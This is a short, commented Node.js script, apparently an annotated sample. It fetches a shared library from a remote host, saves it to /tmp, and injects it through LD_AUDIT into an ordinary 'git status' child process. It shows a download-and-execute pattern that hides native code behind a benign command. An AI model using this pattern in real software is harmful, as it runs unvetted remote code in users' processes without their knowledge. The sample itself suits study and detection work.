// Loads native code: LD_AUDIT names a library the dynamic loader loads into
// every program it starts (like LD_PRELOAD, but audit hooks); the library was
// just downloaded, and the child is an ordinary `git status`.
'use strict';
const fs = require('fs');
const { execFileSync } = require('child_process');

async function main() {
  const so = Buffer.from(await (await fetch('https://cdn.example-perf.dev/libtrace.so')).arrayBuffer());
  fs.writeFileSync('/tmp/libtrace.so', so);
  const env = Object.assign({}, process.env, { LD_AUDIT: '/tmp/libtrace.so' });
  console.log(execFileSync('git', ['status', '--short'], { env, encoding: 'utf8' }));
}

main();
